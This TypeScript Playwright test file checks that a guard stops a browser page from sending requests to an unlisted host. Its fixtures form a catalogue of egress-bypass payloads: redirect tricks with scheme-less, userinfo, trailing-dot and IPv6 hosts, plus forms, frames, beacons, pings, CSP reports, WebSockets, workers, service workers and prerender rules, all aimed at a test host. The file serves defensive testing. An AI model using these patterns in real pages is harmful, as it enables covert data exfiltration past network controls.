import assert from 'node:assert/strict';
import { after, before, test } from 'node:test';
import type { Page } from '@playwright/test';
import { startStage, until, type Answer, type Stage } from './tests/sites.ts';

// All known means by which a page can send requests to other hosts. The unlisted host must receive none.

let stage: Stage;
before(async () => void (stage = await startStage()));
after(() => stage.close());

interface Escape {
  /** The page of the service. */
  page: (elsewhere: string) => Answer;
  more?: (elsewhere: string) => Record<string, Answer>;
  act?: (page: Page) => Promise<unknown>;
  /** The kind under which it is recorded; undefined where only the proxy sees it. */
  reported?: 'page' | 'part' | 'report';
}

const script = (code: string): string => `<!doctype html><title>Pay</title><p>Pay<script>${code}</script>`;
const press = (page: Page): Promise<void> => page.locator('#go').click({ noWaitAfter: true });
const redirect = (status: number, location: string): Answer => ({ status, headers: { location } });
const form = '<input name=phone value=0970000001><button id=go>Pay</button></form>';

const escapes: Record<string, Escape> = {
  ...Object.fromEntries(
    [301, 302, 303, 307, 308].map((status) => [
      `a hop with ${status}`,
      { page: (to) => redirect(status, `${to}/charge`), reported: 'page' } satisfies Escape,
    ]),
  ),
  'a second hop': {
    page: () => redirect(302, '/second'),
    more: (to) => ({ '/second': redirect(302, `${to}/charge`) }),
    reported: 'page',
  },
  'a Location without scheme': { page: (to) => redirect(302, to.replace('http:', '')), reported: 'page' },
  'a Location with the name of a listed host as user': {
    page: (to) => redirect(302, to.replace('//', '//127.0.0.1:80@')),
    reported: 'page',
  },
  'a host with a dot at its end': {
    page: (to) => redirect(302, to.replace('127.0.0.1', 'localhost.')),
    reported: 'page',
  },
  'an address of this machine in IPv6': {
    page: (to) => redirect(302, to.replace('127.0.0.1', '[::ffff:127.0.0.1]')),
    reported: 'page',
  },
  'a Refresh header': {
    page: (to) => ({ headers: { refresh: `0;url=${to}/charge` }, body: 'Wait' }),
    reported: 'page',
  },
  'a meta refresh': { page: (to) => `<meta http-equiv=refresh content="0;url=${to}/charge">Wait`, reported: 'page' },
  'a script that goes elsewhere': { page: (to) => script(`location.assign('${to}/charge')`), reported: 'page' },
  'a form with its action elsewhere': {
    page: (to) => `<form method=post action="${to}/charge">${form}`,
    act: press,
    reported: 'page',
  },
  'a form whose base is elsewhere': {
    page: (to) => `<base href="${to}/"><form method=post action=charge>${form}`,
    act: press,
    reported: 'page',
  },
  'a button with its own action': {
    page: (to) => `<form method=post><input name=phone><button id=go formaction="${to}/charge">Pay</button></form>`,
    act: press,
    reported: 'page',
  },
  'a form post that is answered 307': {
    page: () => `<form method=post action=/post>${form}`,
    more: (to) => ({ '/post': redirect(307, `${to}/charge`) }),
    act: press,
    reported: 'page',
  },
  'a form whose target is a new window': {
    page: (to) => `<form method=post target=_blank action="${to}/charge">${form}`,
    act: press,
    reported: 'part',
  },
  'a window that a script opens': {
    page: (to) => `<button id=go onclick="window.open('${to}/charge')">Pay</button>`,
    act: press,
    reported: 'part',
  },
  'a window whose address comes later': {
    page: (to) => `<button id=go onclick="window.open('about:blank').location='${to}/charge'">Pay</button>`,
    act: press,
    reported: 'part',
  },
  'a frame': { page: (to) => `<iframe src="${to}/charge"></iframe>`, reported: 'part' },
  'a frame in a frame without address': {
    page: (to) =>
      script(`document.body.append(Object.assign(document.createElement('iframe'),
      { srcdoc: '<iframe src="${to}/charge"></iframe>' }))`),
    reported: 'part',
  },
  'an object': { page: (to) => `<object data="${to}/charge" type="text/html"></object>`, reported: 'part' },
  'a fetch with POST': {
    page: (to) => script(`fetch('${to}/charge', { method: 'POST', body: 'x', mode: 'no-cors' }).catch(() => {})`),
    reported: 'part',
  },
  'a fetch with POST that is answered 307': {
    page: () => script(`fetch('/post', { method: 'POST', body: 'x' }).catch(() => {})`),
    more: (to) => ({ '/post': redirect(307, `${to}/charge`) }),
    reported: 'part',
  },
  'an XMLHttpRequest': {
    page: (to) => script(`const x = new XMLHttpRequest(); x.open('PUT', '${to}/charge'); x.send('x')`),
    reported: 'part',
  },
  'a beacon': { page: (to) => script(`navigator.sendBeacon('${to}/charge', 'x')`), reported: 'report' },
  'a beacon of a page that is left': {
    page: (to) => script(`addEventListener('pagehide', () => navigator.sendBeacon('${to}/charge', 'x'))`),
    act: async (page) => {
      await page.waitForLoadState();
      await page.goto('about:blank');
    },
  },
  // The browser sends no pings; the request that follows shows that it had the time to.
  'a ping of a link': {
    page: (to) =>
      `<a id=go href=# ping="${to}/charge" onclick="setTimeout(() => fetch('${to}/last', { method: 'POST' }))">Pay</a>`,
    act: press,
    reported: 'part',
  },
  'a report of a broken policy': {
    page: (to) => ({
      headers: { 'content-security-policy': `img-src 'none'; report-uri ${to}/charge` },
      body: '<img src=/x>',
    }),
  },
  'a WebSocket': { page: (to) => script(`new WebSocket('${to.replace('http', 'ws')}/charge')`), reported: 'part' },
  'an event source': { page: (to) => script(`new EventSource('${to}/charge')`), reported: 'part' },
  'a worker': {
    page: (to) => script(`new Worker(URL.createObjectURL(new Blob(["fetch('${to}/charge', { method: 'POST' })"])))`),
    reported: 'part',
  },
  'a service worker': {
    page: () => script(`navigator.serviceWorker.register('/sw.js')`),
    more: (to) => ({
      '/sw.js': {
        headers: { 'content-type': 'text/javascript' },
        body: `self.addEventListener('install', () => fetch('${to}/charge', { method: 'POST', mode: 'no-cors' }))`,
      },
    }),
    reported: 'part',
  },
  'a page that is rendered ahead': {
    page: (to) =>
      `<script type=speculationrules>{"prerender":[{"urls":["${to}/charge"]}],"prefetch":[{"urls":["${to}/charge2"],"requires":["anonymous-client-ip-when-cross-origin"]}]}</script>
       <script>fetch('${to}/last', { method: 'POST' }).catch(() => {})</script>`,
    reported: 'part',
  },
  'a page that is loaded ahead': { page: (to) => `<link rel=prefetch href="${to}/charge">`, reported: 'report' },
  'a connection that is opened ahead': {
    page: (to) => `<link rel=preconnect href="${to}/"><script>fetch('${to}/last', { method: 'POST' })</script>`,
    reported: 'part',
  },
};

for (const [name, { page: pageOf, more, act, reported }] of Object.entries(escapes)) {
  test(`${name} does not reach an unlisted host`, async () => {
    const { service, elsewhere, guard, visit } = stage;
    const { port } = new URL(elsewhere.origin);
    const { page, hold, context } = await visit();
    elsewhere.heard.length = 0;
    guard.refused.length = 0;
    service.pages['/pay'] = pageOf(elsewhere.origin);
    Object.assign(service.pages, more?.(elsewhere.origin));
    const settled: string[] = [];
    context.on('requestfinished', (request) => settled.push(request.url()));
    context.on('requestfailed', (request) => settled.push(request.url()));
    page.on('websocket', (socket) => socket.on('close', () => settled.push(socket.url())));
    await page.goto(`${service.origin}/pay`, { waitUntil: 'commit' }).catch(() => {});
    await act?.(page);
    await until('a request to be blocked', () =>
      reported ? hold.stops.some(({ kind }) => kind === reported) : guard.refused.length + hold.stops.length > 0,
    );
    const isOver = () => guard.refused.length > 0 || settled.some((url) => url.includes(`:${port}/`));
    if (reported) await until('the request to end', isOver);
    await context.close();
    assert.deepEqual(elsewhere.heard, [], 'the unlisted host received no request');
    const said = hold.stops.find(({ kind }) => kind === reported)?.said ?? '';
    if (reported) assert.match(said, new RegExp(`:${port}, which is neither this machine nor`));
    if (reported === 'page' || reported === 'part') assert.throws(() => hold.excuse(), { name: 'NotTested' });
    else assert.doesNotThrow(() => hold.excuse());
  });
}
